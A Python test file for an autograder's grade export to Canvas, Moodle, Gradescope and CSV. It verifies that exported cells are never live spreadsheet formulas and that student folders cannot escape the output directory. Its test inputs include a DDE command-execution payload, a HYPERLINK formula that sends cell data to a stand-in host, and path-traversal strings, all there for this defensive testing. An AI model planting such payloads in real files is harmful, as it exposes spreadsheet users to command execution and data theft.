"""Exported grades, read as their targets read them: by parsers written from the published rules.

None of these parsers shares code with what is tested. What each of them follows is said at it.
"""

from __future__ import annotations

import csv
import html
import io
import json
import random
import re
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import replace
from datetime import datetime
from pathlib import Path

import pytest
from click.testing import CliRunner
from click.testing import Result as Ran
from jsonschema import Draft202012Validator
from nbgrader.api import Gradebook
from nbgrader.plugins import CsvExportPlugin

from autograder.cli import main
from autograder.course_directory import CONFIG, Course, CourseError, find_course
from autograder.export import TARGETS, ExportError, Grades, Mark, Result
from autograder.export.canvas import canvas
from autograder.export.grades import BY_HAND, NOT_AUTOGRADED, NOT_SUBMITTED
from autograder.export.gradescope import folder_name
from autograder.export.moodle import moodle
from autograder.export.spreadsheet import spreadsheet
from autograder.export.text import guarded
from autograder.gradebook import GradebookError, GradebookWriter, Record
from autograder.grader import faulty
from autograder.sheet import Sheet
from autograder.submission import Fault

ROOT = Path(__file__).parent.parent
TABLES = {"canvas": canvas, "moodle": moodle, "csv": spreadsheet}
ASSIGNMENT = "a1_attention"
WRITTEN = "why_scale"

AWKWARD = [
    "Lovelace, Ada",
    'Augusta "Ada" King',
    '"',
    '""quoted""',
    "O'Brien",
    "'=already marked",
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org/?"&A1,"me")',
    "+49 151",
    "-1+1",
    "@SUM(1)",
    " =1+1",
    "\t=1",
    "\rreturn",
    "two\nlines",
    "two\r\nlines",
    "x\n=1+1",
    "semi;=1+1",
    "tab\t@SUM(1)",
    "＝１＋１",
    "김철수",
    "محمد الخوارزمي",
    "‏עדה‎",
    "👩‍🚀 Ünïcödé ß",
    "Łukasiewicz",
    "007",
    "1.234.567",
    "1e5",
    "NULL",
    "back\\slash",
    "ends in \\",
    'quote \\" escaped',
    "<b>bold</b> & <script>",
    "&amp;",
    "x" * 3_000,
    "%2E",
    "Points Possible",
]


def invented(seed: int, count: int) -> list[str]:
    """Texts of the characters that break things, in any order."""
    draw = random.Random(seed)
    signs = [*"=+-@'\",;\t\r\n \\<&ab1", "김", "ع", "👩\u200d🚀", "＝", "\r\n", "=1", "''"]
    return ["".join(draw.choices(signs, k=draw.randint(1, 12))) for _ in range(count)]


NAMES = [*AWKWARD, *invented(seed=1, count=300)]


def of_names(names: Sequence[str], ids: Sequence[str] | None = None) -> Grades:
    """A class with these names; every third has no grade, and no two the same points."""
    results = []
    for place, name in enumerate(names):
        text = f"On “{name}”:\n=1+1 is what you return\n@ {name}"
        marks = (Mark("softmax", place / 7, 2.0, text), Mark(WRITTEN, 1.0, 4.0, name))
        results.append(
            Result(
                ids[place] if ids else f"student{place:04}",
                first_name=name,
                last_name=names[-place - 1],
                email=f"student{place}@example.org",
                lms_user_id=str(9_000 + place),
                pending=BY_HAND if place % 3 == 2 else "",
                raw_score=place / 7 + 1,
                penalty=0.5 if place % 2 else 0.0,
                marks=marks,
            )
        )
    return Grades(ASSIGNMENT, datetime(2026, 1, 1, 10), 6.0, tuple(results))


# What a text may do -------------------------------------------------------------------------------


def test_a_text_is_no_formula_and_comes_back() -> None:
    for name in (*AWKWARD, *invented(seed=2, count=3_000)):
        assert not is_formula(guarded(name)), name
        assert original(guarded(name)) == name
    assert guarded("Lovelace, Ada (-1)") == "Lovelace, Ada (-1)"


def original(text: str) -> str:
    """The text without the apostrophes, as docs/instructors.md says how to have it back."""
    return re.sub(r"""(^|[;\t\r\n])'(?=[\s'"]*[=+\-@\t\r＝＋－＠])""", r"\1", text)


def is_formula(cell: str) -> bool:
    """By OWASP, "CSV Injection"; a plain number is none.

    Blanks before a sign are read over, and so are quotes, which some spreadsheets take off.
    """
    if re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", cell):
        return False
    return cell.startswith(("\t", "\r")) or bool(re.match(r'[\s"]*[=+\-@＝＋－＠]', cell))


@pytest.mark.parametrize("target", TABLES)
@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_no_cell_is_a_formula_for_a_spreadsheet(target: str, separator: str) -> None:
    """Spreadsheets take the separator that the country has for lists, not the file's."""
    text = TABLES[target](of_names(NAMES, ids=NAMES)).removeprefix("\ufeff")
    lines = io.StringIO(text, newline=None)  # a return alone ends a line, too
    cells = [cell for row in csv.reader(lines, delimiter=separator) for cell in row]
    assert [cell for cell in cells if is_formula(cell)] == []
    assert len(cells) > len(NAMES)


# CSV ----------------------------------------------------------------------------------------------


def rfc4180(text: str) -> list[list[str]]:
    """The records of a file, by the grammar of RFC 4180, section 2; anything else is an error."""
    rows: list[list[str]] = [[]]
    field = re.compile(r'"((?:[^"]|"")*)"|([^",\r\n]*)')
    place = 0
    while place < len(text):
        found = field.match(text, place)
        assert found is not None
        quoted, bare = found.groups()
        rows[-1].append(bare if quoted is None else quoted.replace('""', '"'))
        place = found.end()
        if text.startswith("\r\n", place):
            rows.append([])
            place += 2
        else:
            assert text[place : place + 1] == ",", f"neither comma nor CRLF: {text[place:][:20]!r}"
            place += 1
    assert rows.pop() == [], "the last line does not end"
    assert len({len(row) for row in rows}) == 1, "lines of different lengths"
    return rows


@pytest.mark.parametrize("target", TABLES)
def test_a_file_is_as_rfc_4180_says(target: str) -> None:
    text = TABLES[target](of_names(NAMES)).removeprefix("\ufeff")
    rows = rfc4180(text)
    assert rows == list(csv.reader(io.StringIO(text, newline=""), strict=True))
    cells = {original(cell) for row in rows for cell in row}
    spoilt = {"Points Possible", 'quote \\" escaped', "ends in \\"}  # by the targets' own readers
    graded = [name for place, name in enumerate(AWKWARD) if place % 3 != 2]
    if target == "csv":
        assert cells.issuperset(NAMES)
    if target == "moodle":
        assert cells.issuperset(set(graded) - spoilt)


# Canvas -------------------------------------------------------------------------------------------


def canvas_reads(
    text: str, students: Mapping[int, Mapping[str, str]], known: Mapping[str, int]
) -> tuple[dict[int, str], str, list[str]]:
    """What an upload to Canvas's gradebook finds: grades by its own ids, points, unknown names.

    By the Canvas Instructor Guide, "How do I import grades in the Gradebook?", and its importer,
    lib/gradebook_importer.rb of github.com/instructure/canvas-lms. `students` has for each id of
    Canvas's the SIS id, the login and the sortable name; `known` its assignments.
    """
    rows = [[_canvas_number(cell) for cell in row] for row in rfc4180(text)]
    header = rows.pop(0)
    assert len(header) > 3
    assert "Student" in header[0]
    assert "ID" in header[1]
    assert re.search(r"SIS\s+User\s+ID", header[2])
    assert re.search(r"SIS\s+Login\s+ID", header[3])
    assert "Section" in header[4]
    [title] = header[5:]
    assert title in known
    assert not re.search("(Current|Final|Override) (Score|Points|Grade|Status)", title)
    grades, worth, unknown = {}, "", []
    for name, own, sis, login, _, grade in rows:
        if "Points Possible" in name:
            worth = grade
            continue
        digits = re.match(r"\s*(\d*)", own)  # Ruby's to_i takes what leads
        found = int(digits[1]) if digits and digits[1] else 0
        if found not in students:
            keys = {"sis": sis, "login": login, "name": name}
            matches = [
                number
                for kind, key in keys.items()
                for number, student in students.items()
                if key and student[kind] == key
            ]
            if not matches:
                unknown.append(name)
                continue
            found = matches[0]
        assert found not in grades, "two rows of one student"
        grades[found] = grade.strip()
    return grades, worth, unknown


def _canvas_number(cell: str) -> str:
    """Its converter decimal_comma_to_period: only the last comma or point of a number stays."""
    if not re.fullmatch(r"-?[0-9.,]+%?", cell):
        return cell
    *first, last = re.split("[,.]", cell)
    return f"{''.join(first)}.{last}" if first else last


def in_canvas(grades: Grades) -> dict[int, dict[str, str]]:
    return {
        9_000 + place: {
            "sis": "",
            "login": result.student,
            "name": f"{result.last_name}, {result.first_name}",
        }
        for place, result in enumerate(grades.results)
    }


@pytest.mark.parametrize("by", ["ID", "SIS id", "login", "name"])
def test_canvas_finds_every_student(by: str) -> None:
    """Of students with all but one thing unknown to it, and of all awkward names."""
    grades = of_names(NAMES)
    students = in_canvas(grades)
    if by != "ID":
        without = [replace(result, lms_user_id="") for result in grades.results]
        grades = replace(grades, results=tuple(without))
    if by == "SIS id":
        students = {n: {**s, "sis": s["login"], "login": "other"} for n, s in students.items()}
    if by == "name":  # plain ones: a marked name is another for Canvas
        grades = of_names([f"Ada {place}, the 김th" for place in range(30)])
        students = {n: {**s, "login": "other"} for n, s in in_canvas(grades).items()}
        without = [replace(r, lms_user_id="", student=f"no{r.student}") for r in grades.results]
        grades = replace(grades, results=tuple(without))
    found, worth, unknown = canvas_reads(canvas(grades), students, {ASSIGNMENT: 1})
    assert unknown == []
    assert worth == "6"
    assert found == {
        9_000 + place: "" if result.pending else rounded(result.score)
        for place, result in enumerate(grades.results)
    }


def rounded(points: float) -> str:
    return f"{round(points, 5):.10g}"


def test_an_id_that_is_no_number_of_canvass_gives_no_other_student_a_grade() -> None:
    grades = of_names(["Ada"])
    grades = replace(grades, results=(replace(grades.results[0], lms_user_id="9001-x"),))
    other = {9_001: {"sis": "", "login": "other", "name": "Other"}}
    found, _, unknown = canvas_reads(canvas(grades), other, {ASSIGNMENT: 1})
    assert found == {}
    assert unknown == ["Ada, Ada"]


def test_a_login_that_would_be_a_formula_is_found_by_another_way_and_said() -> None:
    grades = of_names(["Ada", "Bo"], ids=["=1+1", "bo"])
    found, _, _ = canvas_reads(canvas(grades), in_canvas(grades), {ASSIGNMENT: 1})
    assert found == {9_000: "1", 9_001: rounded(1 / 7 + 0.5)}
    [sentence] = TARGETS["canvas"].remarks(grades)
    assert sentence.startswith("'=1+1': ")
    assert TARGETS["canvas"].remarks(of_names(["Ada", "Bo"])) == []


# Moodle -------------------------------------------------------------------------------------------


def php_fgetcsv(text: str) -> list[list[str]]:
    """Records as PHP's fgetcsv reads them: RFC 4180, but a backslash keeps a quote from ending.

    By the PHP manual, fgetcsv, on its parameter `escape`: both characters stay in the text.
    """
    rows: list[list[str]] = [[]]
    place, cell, is_quoted = 0, "", False
    while place < len(text):
        sign, ahead = text[place], text[place : place + 2]
        if is_quoted and sign == "\\" and len(ahead) == 2:
            cell, place = cell + ahead, place + 2
            continue
        if is_quoted and ahead == '""':
            cell, place = cell + '"', place + 2
            continue
        if sign == '"' and (is_quoted or not cell):
            is_quoted = not is_quoted
        elif sign in ",\n" and not is_quoted:
            rows[-1].append(cell)
            cell = ""
            rows += [[]] if sign == "\n" else []
        else:
            cell += sign
        place += 1
    assert not is_quoted, "a cell does not end"
    assert rows.pop() == []
    return rows


def moodle_reads(
    text: str, users: Mapping[str, int], column: str = "Username"
) -> dict[int, tuple[float, str]]:
    """What Moodle's import gives to whom, of its users by `column`: grade, and feedback as shown.

    By MoodleDocs, "Grade import", and gradeimport_csv_load_data and csv_import_reader
    (grade/import/csv/classes/load_data.php, lib/csvlib.class.php, github.com/moodle/moodle): cells
    are trimmed; a blank user is the one before; an unknown user ends the import; feedback is HTML.
    """
    lines = php_fgetcsv(re.sub("\r\n?", "\n", text.removeprefix("\ufeff")))
    header = [cell.strip() for cell in lines.pop(0)]
    assert all(len(line) == len(header) for line in lines), "csvweirdcolumns"
    who, what = header.index(column), header.index(ASSIGNMENT)
    comment = header.index(f"{ASSIGNMENT} (Feedback)")
    given: dict[int, tuple[float, str]] = {}
    user = None
    for line in lines:
        cells = [cell.strip() for cell in line]
        if cells[who] not in ("", "0"):  # PHP's empty()
            assert cells[who] in users, f"the whole import ends at {cells[who]!r}"
            user = users[cells[who]]
        assert user is not None
        assert user not in given, "the grade of one user goes to another"
        assert "<" not in cells[comment], "feedback is markup"
        given[user] = float(cells[what]), html.unescape(cells[comment])
    return given


@pytest.mark.parametrize("column", ["Username", "Email address", "LMS user ID"])
def test_moodle_gives_each_grade_and_comment_to_its_student(column: str) -> None:
    grades = of_names(NAMES)
    users = {
        {"Username": r.student, "Email address": r.email, "LMS user ID": r.lms_user_id}[column]: n
        for n, r in enumerate(grades.results)
    }
    given = moodle_reads(moodle(grades), users, column)
    graded = {n: r for n, r in enumerate(grades.results) if not r.pending}
    assert given.keys() == graded.keys()
    for place, result in graded.items():
        points, comment = given[place]
        assert points == pytest.approx(result.score, abs=1e-5)
        text = re.sub("\r\n?", "\n", result.marks[0].text).strip()
        assert text.replace("'", "") in comment.replace("'", "")  # some of them are ours
        assert comment.startswith(f"softmax: {rounded(place / 7)} of 2 points\n")
        assert ("Late: 0.5 points taken off." in comment) == bool(result.penalty)


def test_moodle_is_given_no_column_that_does_not_name_everybody() -> None:
    grades = of_names(["Ada", "Bo"])
    first, second = grades.results
    for blank in ("", "0", " ", "=1+1"):
        odd = replace(second, email=blank, lms_user_id=blank)
        [header, *_] = php_fgetcsv(moodle(replace(grades, results=(first, odd))))
        assert not {"Email address", "LMS user ID"} & set(header)
    assert {"Email address", "LMS user ID"} < set(php_fgetcsv(moodle(grades))[0])


def test_an_id_that_would_end_moodles_import_is_left_out_and_said() -> None:
    odd = ["=1+1", "0", " ada", "-kim", 'a\\"b', "김철수"]
    grades = of_names(["x", "y"] * 3, ids=odd)
    grades = replace(grades, results=tuple(replace(r, pending="") for r in grades.results))
    assert moodle_reads(moodle(grades), {"김철수": 1}).keys() == {1}
    [sentence] = TARGETS["moodle"].remarks(grades)
    assert all(ascii(student) in sentence for student in odd[:5])
    assert ascii(odd[5]) not in sentence


def test_what_is_said_of_several_problems_is_said_once() -> None:
    marks = tuple(Mark(name, 0.0, 2.0, "This is no notebook.") for name in ("softmax", "attend"))
    result = Result("ada", pending="", marks=marks)
    _, row = rfc4180(moodle(Grades(ASSIGNMENT, None, 4.0, (result,))).removeprefix("\ufeff"))
    assert row[-1] == "softmax: 0 of 2 points\nattend: 0 of 2 points\nThis is no notebook."


# Gradescope ---------------------------------------------------------------------------------------

VISIBILITY = {"enum": ["hidden", "after_due_date", "after_published", "visible"]}
FORMAT = {"enum": ["text", "html", "simple_format", "md", "ansi"]}
# "Autograder Specifications", Output format: every field, and no other.
SPECIFICATION = {
    "type": "object",
    "additionalProperties": False,
    "anyOf": [{"required": ["score"]}, {"required": ["tests"]}],
    "properties": {
        "score": {"type": "number"},
        "execution_time": {"type": "number"},
        "output": {"type": "string"},
        "output_format": FORMAT,
        "test_output_format": FORMAT,
        "test_name_format": FORMAT,
        "visibility": VISIBILITY,
        "stdout_visibility": VISIBILITY,
        "extra_data": {"type": "object"},
        "leaderboard": {"type": "array"},
        "tests": {
            "type": "array",
            "items": {
                "type": "object",
                "additionalProperties": False,
                "properties": {
                    "score": {"type": "number"},
                    "max_score": {"type": "number"},
                    "status": {"enum": ["passed", "failed"]},
                    "name": {"type": "string"},
                    "name_format": FORMAT,
                    "number": {"type": "string"},
                    "output": {"type": "string"},
                    "output_format": FORMAT,
                    "tags": {"type": "array", "items": {"type": "string"}},
                    "visibility": VISIBILITY,
                    "extra_data": {"type": "object"},
                },
            },
        },
    },
}


def test_gradescope_reads_every_result(tmp_path: Path) -> None:
    grades = of_names(NAMES, ids=[f"{place} {name}"[:128] for place, name in enumerate(NAMES)])
    TARGETS["gradescope"].write(grades, tmp_path / "results")
    validator = Draft202012Validator(SPECIFICATION)
    files = sorted((tmp_path / "results").glob("*/*"))
    assert len(files) == len(grades.graded)
    for result in grades.graded:
        path = tmp_path / "results" / folder_name(result.student) / "results.json"
        read = json.loads(path.read_text("utf-8"), parse_constant=pytest.fail)
        validator.validate(read)
        assert read["score"] == pytest.approx(result.score, abs=1e-5)
        assert read["score"] == pytest.approx(
            sum(test["score"] for test in read["tests"]) - result.penalty, abs=2e-5
        )
        assert [(t["name"], t["max_score"], t["output"]) for t in read["tests"]] == [
            (mark.name, mark.max_points, mark.text) for mark in result.marks
        ]
        assert [test["status"] == "passed" for test in read["tests"]] == [
            mark.points >= mark.max_points for mark in result.marks
        ]
        shown = [read, *read["tests"]]
        assert {one["visibility"] for one in shown} == {"visible"}
        assert {one["output_format"] for one in shown} == {"text"}, "students' text is no markup"
        assert ("0.5 points" in read["output"]) == bool(result.penalty)


@pytest.mark.parametrize("student", ["..", ".", "../../x", "/etc", "a/b", "a\\b", "C:", "x" * 999])
def test_a_students_folder_lies_in_the_folder(student: str, tmp_path: Path) -> None:
    grades = of_names(["Ada"], ids=[student])
    TARGETS["gradescope"].write(grades, tmp_path / "out")
    [found] = tmp_path.rglob("results.json")
    assert found.parent.parent == tmp_path / "out"


def test_folders_of_two_students_are_two() -> None:
    odd = [*NAMES, "..", ".", "%2E", "x" * 999, "x" * 998, "가" * 128, "가" * 127]
    assert len({folder_name(student) for student in odd}) == len(set(odd))
    assert folder_name("김철수") == "김철수"


# The plain table, and the gradebook ---------------------------------------------------------------


@pytest.fixture(scope="module")
def course(tmp_path_factory: pytest.TempPathFactory) -> Course:
    """A class with every reason to have, or not to have, a grade."""
    folder = tmp_path_factory.mktemp("export") / "course"
    folder.mkdir()
    for name in (CONFIG, "solutions", "assignments"):
        (folder / name).symlink_to(ROOT / name)
    found = find_course(folder)
    fill(found)
    return found


def fill(course: Course) -> None:
    release = course.release(ASSIGNMENT)
    sheet = Sheet.load(course.release_folder(ASSIGNMENT) / f"{ASSIGNMENT}.sheet.json")
    graded = faulty(release, sheet, Fault("refused", "This is no notebook."))
    rows = [{"problem": name, "message": v.message} for name, v in graded.verdicts.items()]
    with GradebookWriter(course, release, ASSIGNMENT) as book:
        book.register()
        for student in ("ada", "emmy", "late", "=1+1", "unmarked"):
            book.save(student, datetime(2026, 1, 2), graded, Record("first", rows))
        book.save("failed", None, graded, Record("", []))
    with Gradebook(course.directory.db_url) as gradebook:
        gradebook.find_assignment(ASSIGNMENT).duedate = datetime(2026, 1, 1)
        gradebook.add_student("absent", first_name="철수", last_name="김")
        gradebook.add_student("unread")
        gradebook.add_submission(ASSIGNMENT, "unread")
        gradebook.add_student("older")  # than a cell of the assignment
        gradebook.add_submission(ASSIGNMENT, "older")
        gradebook.db.delete(gradebook.find_grade("softmax", *[ASSIGNMENT] * 2, "older"))
        for grade in gradebook.find_submission_notebook(*[ASSIGNMENT] * 2, "older").grades:
            grade.auto_score = 1.0
        ada = gradebook.find_student("ada")
        ada.first_name, ada.last_name, ada.lms_user_id = "Ada", "Lovelace", "4711"
        for student in ("ada", "emmy", "late", "=1+1"):
            written = gradebook.find_grade(WRITTEN, *[ASSIGNMENT] * 2, student)
            written.manual_score, written.needs_manual_grade = 3.0, False
        gradebook.find_grade(WRITTEN, *[ASSIGNMENT] * 2, "ada").extra_credit = 0.5
        gradebook.find_comment(WRITTEN, *[ASSIGNMENT] * 2, "ada").manual_comment = "well argued"
        gradebook.find_comment(
            "softmax_answer", *[ASSIGNMENT] * 2, "ada"
        ).auto_comment = "No response."
        softmax = gradebook.find_grade("softmax", *[ASSIGNMENT] * 2, "ada")
        softmax.manual_score, softmax.needs_manual_grade = 1.25, False
        late = gradebook.find_submission_notebook(*[ASSIGNMENT] * 2, "late")
        late.late_submission_penalty = 2.0
        over = gradebook.find_submission_notebook(*[ASSIGNMENT] * 2, "emmy")
        over.late_submission_penalty = 99.0
        unmarked = gradebook.find_grade(WRITTEN, *[ASSIGNMENT] * 2, "unmarked")
        unmarked.auto_score, unmarked.needs_manual_grade = None, True
        gradebook.db.commit()


def test_grades_are_what_the_gradebook_says(course: Course) -> None:
    grades = Grades.read(course, ASSIGNMENT)
    of = {result.student: result for result in grades.results}
    assert {student: result.pending for student, result in of.items()} == {
        **dict.fromkeys(("ada", "emmy", "late", "=1+1"), ""),
        "absent": NOT_SUBMITTED,
        "unread": NOT_AUTOGRADED,
        "older": NOT_AUTOGRADED,
        "unmarked": BY_HAND,
        "failed": BY_HAND,
    }
    assert {result.student: result.score for result in grades.graded} == {
        "ada": 3 + 0.5 + 1.25,
        "emmy": 0.0,
        "late": 1.0,
        "=1+1": 3.0,
    }
    assert (of["ada"].first_name, of["ada"].lms_user_id) == ("Ada", "4711")
    assert grades.max_score == sum(mark.max_points for mark in of["ada"].marks)
    problems = list(course.release(ASSIGNMENT).points)
    assert [mark.name for mark in of["ada"].marks] == [*problems, WRITTEN]
    texts = {mark.name: mark.text for mark in of["ada"].marks}
    assert texts.pop(WRITTEN) == "well argued"
    assert set(texts.values()) == {"This is no notebook."}


def test_the_plain_table_says_what_nbgraders_own_export_says(
    course: Course, tmp_path: Path
) -> None:
    """nbgrader's writes 0 where there is no grade, and quotes nothing."""
    with Gradebook(course.directory.db_url) as gradebook:
        CsvExportPlugin(to=str(tmp_path / "grades.csv"), assignment=[ASSIGNMENT]).export(gradebook)
    stock = list(csv.DictReader(io.StringIO((tmp_path / "grades.csv").read_text("utf-8"))))
    TARGETS["csv"].write(Grades.read(course, ASSIGNMENT), tmp_path / "ours.csv")
    ours = list(csv.DictReader(io.StringIO((tmp_path / "ours.csv").read_text("utf-8-sig"))))
    assert len(stock) == len(ours) == 9
    assert list(ours[0]) == list(stock[0])
    pending = {"absent", "unread", "older", "unmarked", "failed"}
    of_stock = {row["student_id"]: row for row in stock}
    for mine in ours:
        theirs = of_stock[original(mine["student_id"])]
        points = {name for name in mine if name.endswith(("score", "penalty"))}
        for name, text in mine.items():
            if name not in points:
                assert original(text) == theirs[name]
            elif mine["student_id"] in pending and name != "max_score":
                assert text == ""
            else:
                assert float(text) == float(theirs[name])


@pytest.mark.parametrize("target", [*TABLES, "gradescope"])
def test_no_grade_is_none_and_counted(target: str, course: Course, tmp_path: Path) -> None:
    ran = export(course, "--to", target, "--output", str(tmp_path / "new"))
    assert ran.exit_code == 0
    assert "5 of 9 students have no grade" in ran.stderr
    for reason in ("1 not submitted", "2 not autograded", "2 to be graded by hand"):
        assert reason in ran.stderr
    if target in ("canvas", "csv"):
        who, what = {"canvas": ("SIS Login ID", ASSIGNMENT), "csv": ("student_id", "score")}[target]
        text = (tmp_path / "new").read_text("utf-8-sig")
        scores = {row[who]: row[what] for row in csv.DictReader(io.StringIO(text))}
        without = {student for student, score in scores.items() if score == ""}
        assert without == {"absent", "unread", "older", "unmarked", "failed"}
        assert "empty, not 0" in ran.stderr
    else:
        written = " ".join(text_of(tmp_path / "new"))
        assert "ada" in written
        assert not re.search("unmarked|absent|unread|older|failed,", written)
        assert "left out" in ran.stderr


def text_of(path: Path) -> Iterator[str]:
    """The file's text, or the names in the folder."""
    yield from (own.name for own in path.iterdir()) if path.is_dir() else [path.read_text("utf-8")]


def export(course: Course, *options: str, folder: Path | None = None) -> Ran:
    with pytest.MonkeyPatch.context() as patch:
        patch.chdir(folder or course.root)
        return CliRunner().invoke(main, ["export", ASSIGNMENT, *options])


def test_the_command_knows_every_target_and_names_its_file(course: Course) -> None:
    targets = main.commands["export"].params[1].type.to_info_dict()["choices"]
    assert sorted(targets) == sorted([*TABLES, "gradescope"])
    for target, kind in {"csv": "grades", "canvas": "canvas"}.items():
        name = f"{ASSIGNMENT}-{kind}.csv"
        ran = export(course, "--to", target)
        assert ran.stdout == f"{name}: 4 grades of a1_attention\n"
        assert (course.root / name).is_file()


def test_what_people_can_mend_is_one_sentence(course: Course, tmp_path: Path) -> None:
    bare = tmp_path / "bare"
    bare.mkdir()
    for name in (CONFIG, "solutions", "assignments"):
        (bare / name).symlink_to(ROOT / name)
    ran = export(course, "--to", "csv", folder=bare)
    assert "there is no gradebook at" in ran.stderr
    assert not (bare / "gradebook.db").exists()

    ran = export(course, "--to", "csv", "--output", str(tmp_path / "none" / "x.csv"))
    assert "x.csv cannot be written (No such file or directory)" in ran.stderr
    ran = export(course, "--to", "csv", "--output", str(tmp_path))
    assert "cannot be written (Is a directory)" in ran.stderr
    ran = export(course, "--to", "gradescope", "--output", str(tmp_path))
    assert "is not empty" in ran.stderr
    for ran in (export(course, "--to", "excel"), CliRunner().invoke(main, ["export", "a99"])):
        assert ran.exit_code == 2

    with pytest.raises(GradebookError, match="there is no gradebook at"):
        Grades.read(find_course(bare), ASSIGNMENT)
    with pytest.raises(ExportError, match="no grades of a2_multi_head: run"):
        Grades.read(course, "a2_multi_head")
    with pytest.raises(CourseError, match="no assignment 'a99'"):
        Grades.read(course, "a99")
